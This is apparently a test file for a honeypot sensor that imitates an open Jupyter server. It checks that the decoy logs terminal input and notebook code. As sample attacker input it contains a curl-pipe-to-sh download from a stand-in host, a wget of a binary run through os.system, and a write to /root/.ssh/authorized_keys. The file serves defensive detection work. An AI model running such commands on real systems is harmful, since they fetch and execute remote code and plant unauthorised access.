/** The Jupyter decoy as scripts use an open server: a token of a page, a terminal, a kernel. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { after, before, describe, it } from 'node:test';
import { type Sensor, startSensor } from './sensor.ts';

describe('an open Jupyter', () => {
  let sensor: Sensor;
  let base: string;
  let headers: Record<string, string>;

  before(async () => {
    sensor = await startSensor(['jupyter']);
    base = `127.0.0.1:${sensor.port('jupyter')}`;
    const page = await fetch(`http://${base}/tree`);
    const token = /_xsrf=([^;]+)/.exec(page.headers.get('set-cookie')!)![1]!;
    headers = { cookie: `_xsrf=${token}`, 'x-xsrftoken': token };
  });
  after(() => sensor[Symbol.asyncDispose]());

  async function post(path: string, body: unknown = {}): Promise<Record<string, string>> {
    const answer = await fetch(`http://${base}${path}`, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    });
    assert.ok(answer.ok, `${path}: ${answer.status}`);
    return (await answer.json()) as Record<string, string>;
  }

  async function open(path: string): Promise<{ socket: WebSocket; messages: unknown[] }> {
    const socket = new WebSocket(`ws://${base}${path}`);
    const messages: unknown[] = [];
    socket.onmessage = ({ data }) => messages.push(JSON.parse(data));
    await once(socket, 'open');
    return { socket, messages };
  }

  async function until(holds: () => boolean, what: string): Promise<void> {
    for (const start = performance.now(); !holds(); await new Promise((resolve) => setTimeout(resolve, 10)))
      if (performance.now() - start > 15_000) throw new Error(`waited in vain for ${what}`);
  }

  it('runs what is typed into a terminal, and tells of each line', async () => {
    const { name } = await post('/api/terminals');
    const { socket, messages } = await open(`/terminals/websocket/${name}`);
    const shown = (): string =>
      messages.flatMap((one) => ((one as string[])[0] === 'stdout' ? [(one as string[])[1]] : [])).join('');
    await until(() => /# $/.test(shown()), 'a prompt');
    assert.deepEqual(messages[0], ['setup', {}]);
    socket.send(JSON.stringify(['set_size', 40, 120, 0, 0]));
    socket.send(JSON.stringify(['stdin', 'echo c3ViamVjdA== > /root/.ssh/authorized_keys\r']));
    socket.send(JSON.stringify(['stdin', 'curl -s http://198.51.100.7/init.sh | sh\r']));
    const told = await sensor.event('jupyter.terminal.input', ({ data }) =>
      String(data!.line).startsWith('curl'),
    );
    assert.ok(told.norm.urls.includes('http://198.51.100.7/init.sh'), JSON.stringify(told.norm));
    const first = await sensor.event('jupyter.terminal.input', ({ data }) =>
      String(data!.line).startsWith('echo'),
    );
    assert.deepEqual(
      (first.data!.artefacts as { name: string }[]).map((one) => one.name),
      ['/root/.ssh/authorized_keys'],
    );
    const closed = once(socket, 'close');
    socket.send(JSON.stringify(['stdin', 'exit\r']));
    await until(() => messages.some((one) => (one as string[])[0] === 'disconnect'), 'the end of the shell');
    await closed;
    assert.deepEqual(await (await fetch(`http://${base}/api/terminals`)).json(), []);
  });

  it('runs cells, in the order of the protocol, and tells of each', async () => {
    const { id } = await post('/api/kernels', { name: 'python3' });
    const { socket, messages } = await open(`/api/kernels/${id}/channels?session_id=abc`);
    const code = 'import os\nos.system("echo from the shell; wget -q http://203.0.113.5/x86_64")';
    const header = {
      msg_id: 'm1',
      username: '',
      session: 'abc',
      msg_type: 'execute_request',
      version: '5.3',
    };
    socket.send(
      JSON.stringify({
        header,
        parent_header: {},
        metadata: {},
        channel: 'shell',
        content: { code, silent: false, store_history: true },
      }),
    );
    type Answer = {
      msg_type: string;
      channel: string;
      content: Record<string, unknown>;
      parent_header: { msg_id: string };
    };
    const mine = (): Answer[] => (messages as Answer[]).filter((one) => one.parent_header.msg_id === 'm1');
    await until(
      () =>
        mine().some(({ msg_type, content }) => msg_type === 'status' && content.execution_state === 'idle'),
      'the kernel to be idle',
    );
    assert.deepEqual(
      mine().map(({ msg_type, channel }) => `${channel} ${msg_type}`),
      [
        'iopub status',
        'iopub execute_input',
        'iopub stream',
        'iopub execute_result',
        'shell execute_reply',
        'iopub status',
      ],
    );
    assert.match(String(mine()[2]!.content.text), /^from the shell\n/);
    const told = await sensor.event('jupyter.execute');
    assert.equal(told.data!.code, code);
    assert.ok(told.norm.urls.includes('http://203.0.113.5/x86_64'), JSON.stringify(told.norm));
    socket.close();
  });

  it('a terminal of one connection is there for the next', async () => {
    const opened = await fetch(`http://${base}/terminals/new`, { redirect: 'manual' });
    const path = opened.headers.get('location')!.replace('/terminals/', '/terminals/websocket/');
    const first = await open(path);
    first.socket.send(JSON.stringify(['stdin', 'MARK=kept\r']));
    await sensor.event('jupyter.terminal.input', ({ data }) => data!.line === 'MARK=kept');
    first.socket.close();
    await once(first.socket, 'close');
    const second = await open(path);
    second.socket.send(JSON.stringify(['stdin', 'echo "<$MARK>"\r']));
    await until(() => JSON.stringify(second.messages).includes('<kept>'), 'the variable');
    second.socket.close();
  });
});
